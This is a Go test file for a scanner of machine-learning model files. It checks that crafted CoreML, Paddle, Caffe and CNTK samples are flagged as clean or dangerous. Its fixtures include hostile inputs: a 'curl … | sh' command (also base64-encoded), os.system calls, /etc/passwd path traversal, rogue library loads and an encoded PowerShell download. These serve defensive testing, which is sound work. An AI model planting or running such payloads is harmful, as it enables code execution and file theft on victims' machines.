package graphs

import (
	"bytes"
	"encoding/binary"
	"strings"
	"testing"

	"github.com/lodemark/lodemark/internal/model/inspect"
	"github.com/lodemark/lodemark/internal/model/protobuf"
)

func coremlModel(kind int, inner []byte, metadata map[string]string) []byte {
	b := protobuf.AppendVarint([]byte(nil), 1, 5)
	var m []byte
	for k, v := range metadata {
		m = protobuf.AppendBytes(m, 100, protobuf.AppendBytes(protobuf.AppendBytes([]byte(nil), 1, k), 2, v))
	}
	b = protobuf.AppendBytes(b, 2, protobuf.AppendBytes([]byte(nil), 100, m))
	return protobuf.AppendBytes(b, kind, inner)
}

func TestCoreML(t *testing.T) {
	layer := func(field int, inner []byte) []byte {
		return protobuf.AppendBytes([]byte(nil), 1, protobuf.AppendBytes(protobuf.AppendBytes([]byte(nil), 1, "l"), field, inner))
	}
	custom := protobuf.AppendBytes([]byte(nil), 10, "EvilLayer")
	linked := func(name string) []byte {
		return protobuf.AppendBytes([]byte(nil), 1, protobuf.AppendBytes([]byte(nil), 1, protobuf.AppendBytes([]byte(nil), 1, name)))
	}
	program := func(file string) []byte {
		value := protobuf.AppendBytes([]byte(nil), 5, protobuf.AppendVarint(protobuf.AppendBytes([]byte(nil), 1, file), 2, 64))
		op := protobuf.AppendBytes([]byte(nil), 1, "const")
		op = protobuf.AppendBytes(op, 5, protobuf.AppendBytes(protobuf.AppendBytes([]byte(nil), 1, "val"), 2, value))
		block := protobuf.AppendBytes(protobuf.AppendBytes([]byte(nil), 1, "CoreML5"), 2, protobuf.AppendBytes([]byte(nil), 3, op))
		function := protobuf.AppendBytes(protobuf.AppendBytes([]byte(nil), 1, "main"), 2, protobuf.AppendBytes([]byte(nil), 3, block))
		return protobuf.AppendBytes(protobuf.AppendVarint([]byte(nil), 1, 1), 2, function)
	}
	network := coremlModel(coremlNetwork, layer(100, nil), map[string]string{"notes": "execution benchmark, no command invocation"})
	branch := layer(605, protobuf.AppendBytes([]byte(nil), 2, layer(500, custom)))
	check(t, "coreml", []sample{
		{"a network", "m.mlmodel", network, inspect.Clean, ""},
		{"by another name", "weights.bin", network, inspect.Clean, ""},
		{"a custom layer", "m.mlmodel", coremlModel(coremlNetwork, layer(500, custom), nil), inspect.Dangerous, `"EvilLayer"`},
		{"a custom layer in a branch", "m.mlmodel", coremlModel(coremlNetwork, branch, nil), inspect.Dangerous, `"EvilLayer"`},
		{"a custom layer in a pipeline", "m.mlmodel", coremlModel(coremlPipeline, protobuf.AppendBytes([]byte(nil), 1, coremlModel(coremlNetworkClassifier, layer(500, custom), nil)), nil), inspect.Dangerous, `"EvilLayer"`},
		{"a custom model", "m.mlmodel", coremlModel(coremlCustomModel, custom, nil), inspect.Dangerous, "custom model"},
		{"a linked model beside it", "m.mlmodel", coremlModel(coremlLinkedModel, linked("other.mlmodelc"), nil), inspect.Clean, ""},
		{"a linked model elsewhere", "m.mlmodel", coremlModel(coremlLinkedModel, linked("../other.mlmodelc"), nil), inspect.Dangerous, "../other"},
		{"a program", "m.mlmodel", coremlModel(coremlProgram, program("@model_path/weights/weight.bin"), nil), inspect.Clean, ""},
		{"a program with weights elsewhere", "m.mlmodel", coremlModel(coremlProgram, program("@model_path/../../../etc/passwd"), nil), inspect.Dangerous, "etc/passwd"},
		{"a command in metadata", "m.mlmodel", coremlModel(coremlNetwork, layer(100, nil), map[string]string{"post": "curl example.org/x | sh"}), inspect.Dangerous, "command"},
		{"a command in base64 in metadata", "m.mlmodel", coremlModel(coremlNetwork, layer(100, nil), map[string]string{"post": "Y3VybCBodHRwOi8vZXhhbXBsZS5vcmcveCB8IHNo"}), inspect.Dangerous, "in base64"},
		{"words in base64 in metadata", "m.mlmodel", coremlModel(coremlNetwork, layer(100, nil), map[string]string{"post": "YSBuZXR3b3JrIG9mIHR3ZW50eSBsYXllcnM="}), inspect.Clean, ""},
		{"cut", "m.mlmodel", network[:len(network)-3], inspect.NotRead, "claims"},
		{"of no kind", "m.mlmodel", coremlModel(coremlNetwork, nil, nil)[:2+4], inspect.NotRead, ""},
		{"of two kinds", "m.mlmodel", protobuf.AppendBytes(bytes.Clone(network), coremlProgram, ""), inspect.NotRead, "2 kinds"},
	})
}

func TestPaddle(t *testing.T) {
	whole := paddleSample("conv2d", map[string]string{"op_callstack": "  File \"a.py\", line 1, in <module> | sh"})
	check(t, "paddle", []sample{
		{"a program", "m.pdmodel", whole, inspect.Clean, ""},
		{"by another name", "anything", whole, inspect.Clean, ""},
		{"Python", "m.pdmodel", paddleSample("py_func", nil), inspect.Dangerous, "Python function"},
		{"writing a file", "__model__", paddleSample("save_combine", map[string]string{"file_path": "x"}), inspect.Malicious, "writes files"},
		{"reading a file", "__model__", paddleSample("load", map[string]string{"file_path": "../../etc/passwd"}), inspect.Dangerous, "reads files"},
		{"a library", "m.pdmodel", paddleSample("relu", map[string]string{"library_path": "/tmp/evil.so"}), inspect.Dangerous, "/tmp/evil.so"},
		{"a command", "m.pdmodel", paddleSample("relu", map[string]string{"name": "os.system('id')"}), inspect.Dangerous, ""},
		{"an operator of nobody", "m.pdmodel", paddleSample("evil_op", nil), inspect.Unknown, `"evil_op"`},
		{"a gradient of a gradient", "m.pdmodel", paddleSample("conv2d_grad_grad", nil), inspect.Clean, ""},
		{"a family of operators", "m.pdmodel", paddleSample("elementwise_add", nil), inspect.Clean, ""},
		{"a listener", "m.pdmodel", paddleSample("listen_and_serv", nil), inspect.Dangerous, "other machines"},
		{"cut", "m.pdmodel", whole[:len(whole)-4], inspect.NotRead, "claims"},
		{"no type", "m.pdmodel", paddleSample("", nil), inspect.NotRead, "no type"},
	})
	check(t, "paddle-pir", []sample{
		{"a program", "inference.json", []byte(`{"base_code":{"magic":"pir","version":1},"program":{"regions":[{"#":"region_0","blocks":[{"ops":[{"#":"1.conv2d"}]}]}]}}`), inspect.Clean, ""},
		{"an operator of somebody's own", "inference.json", []byte(`{"base_code":{"magic":"pir","version":1},"program":{"regions":[{"blocks":[{"ops":[{"#":"3.evil_op"}]}]}]}}`), inspect.Unknown, `"evil_op"`},
		{"Python", "inference.json", []byte(`{"base_code":{"magic":"pir","version":1},"program":{"regions":[{"blocks":[{"ops":[{"#":"1.py_func_"}]}]}]}}`), inspect.Dangerous, "Python function"},
		{"cut", "inference.json", []byte(`{"base_code":{"magic":"pir","version":1},"program":{`), inspect.NotRead, ""},
	})
	tensor := func(dims uint64, data int) []byte {
		desc := protobuf.AppendVarint(protobuf.AppendVarint([]byte(nil), 1, 5), 2, dims)
		b := append(make([]byte, 16), binary.LittleEndian.AppendUint32(nil, uint32(len(desc)))...)
		return append(append(b, desc...), make([]byte, data)...)
	}
	check(t, "paddle-params", []sample{
		{"two tensors", "m.pdiparams", append(tensor(3, 12), tensor(2, 8)...), inspect.Clean, ""},
		{"by another name", "weights", tensor(3, 12), inspect.Clean, ""},
		{"a shape that lies", "m.pdiparams", tensor(300, 12), inspect.NotRead, "claims"},
		{"cut", "m.pdiparams", tensor(3, 11), inspect.NotRead, "claims"},
	})
}

func TestCaffe(t *testing.T) {
	net := func(kind string, field int, inner ...string) []byte {
		layer := protobuf.AppendBytes(protobuf.AppendBytes([]byte(nil), 1, "l"), 2, kind)
		var p []byte
		for i, s := range inner {
			p = protobuf.AppendBytes(p, i+1, s)
		}
		if field > 0 {
			layer = protobuf.AppendBytes(layer, field, p)
		}
		return protobuf.AppendBytes(protobuf.AppendBytes([]byte(nil), 1, "net"), 100, layer)
	}
	whole := net("Convolution", 0)
	check(t, "caffe", []sample{
		{"a net", "m.caffemodel", whole, inspect.Clean, ""},
		{"by another name", "weights.bin", whole, inspect.Clean, ""},
		{"its data", "m.caffemodel", net("Data", 107, "examples/mnist_train_lmdb"), inspect.Clean, ""},
		{"Python", "m.caffemodel", net("Python", 130, "pyloss", "Loss"), inspect.Dangerous, `"pyloss"`},
		{"a module of Python itself", "m.caffemodel", net("Python", 130, "os", "system", "id"), inspect.Malicious, `"system"`},
		{"data elsewhere", "m.caffemodel", net("ImageData", 115, "/etc/passwd"), inspect.Dangerous, "/etc/passwd"},
		{"an output", "m.caffemodel", net("HDF5Output", 113, "/tmp/out.h5"), inspect.Dangerous, "writes"},
		{"cut", "m.caffemodel", whole[:len(whole)-3], inspect.NotRead, "claims"},
		{"a field of nothing", "m.caffemodel", protobuf.AppendBytes(net("X", 0), 77, "x"), inspect.NotRead, "field 77"},
	})
	text := func(param string) []byte {
		return []byte("name: \"net\" # a net\nlayer {\n  name: 'l'\n  type: \"InnerProduct\"\n  " + param + "\n}\n")
	}
	check(t, "caffe-text", []sample{
		{"a net", "m.prototxt", text("inner_product_param { num_output: 10 weight_filler { type: \"xavier\" } }"), inspect.Clean, ""},
		{"its data", "m.prototxt", text("data_param { source: \"examples/mnist\" backend: LMDB }"), inspect.Clean, ""},
		{"Python", "m.prototxt", text("python_param { module: 'pyloss' layer: 'Loss' }"), inspect.Dangerous, "pyloss"},
		{"a module of Python itself", "m.prototxt", text("python_param { layer: \"system\" module: \"o\" \"s\" param_str: \"id\" }"), inspect.Malicious, "no layer needs"},
		{"data elsewhere", "m.prototxt", text("image_data_param { source: \"../../../etc/passwd\" }"), inspect.Dangerous, "etc/passwd"},
		{"a brace that is not closed", "m.prototxt", text("blobs {"), inspect.NotRead, "ends inside"},
		{"one too many", "m.prototxt", text("} }"), inspect.NotRead, ""},
		{"a text that does not end", "m.prototxt", text("source: \"abc"), inspect.NotRead, "does not end"},
	})
}

func TestCNTK(t *testing.T) {
	whole := cntkSample(map[string]string{"version": "1", "type": "CompositeFunction", "name": "net"})
	old := func(nodes uint64, more string) []byte {
		b := append(cntkMark("BCN"), cntkMark("BVersion")...)
		b = append(binary.LittleEndian.AppendUint64(b, 12), cntkMark("EVersion")...)
		b = append(binary.LittleEndian.AppendUint64(b, nodes), cntkMark("BNodeList")...)
		b = append(append(b, more...), cntkMark("ENodeList")...)
		return append(b, cntkMark("ECN")...)
	}
	evil := string(cntkMark("powershell.exe -enc AAAA http://example.org"))
	check(t, "cntk", []sample{
		{"a function", "m.dnn", whole, inspect.Clean, ""},
		{"by another name", "m.model", whole, inspect.Clean, ""},
		{"a function in Python", "m.dnn", cntkSample(map[string]string{"type": "UserDefinedFunction", "module": "os", "class": "system"}), inspect.Dangerous, `"os"`},
		{"a native function", "m.cmf", cntkSample(map[string]string{"type": "x", "library": "evil.dll"}), inspect.Dangerous, "evil.dll"},
		{"a command", "m.dnn", cntkSample(map[string]string{"version": "1", "name": "os.system('id')"}), inspect.Dangerous, ""},
		{"cut", "m.dnn", whole[:len(whole)-4], inspect.NotRead, "claims"},
		{"the older form", "m.dnn", old(2, strings.Repeat("n\x00", 40)), inspect.Clean, ""},
		{"the older form with a command", "m.dnn", old(2, evil), inspect.Dangerous, "powershell"},
		{"the older form, cut", "m.dnn", old(2, "")[:60], inspect.NotRead, ""},
		{"the older form, lying", "m.dnn", old(1<<40, ""), inspect.NotRead, "claims"},
	})
}
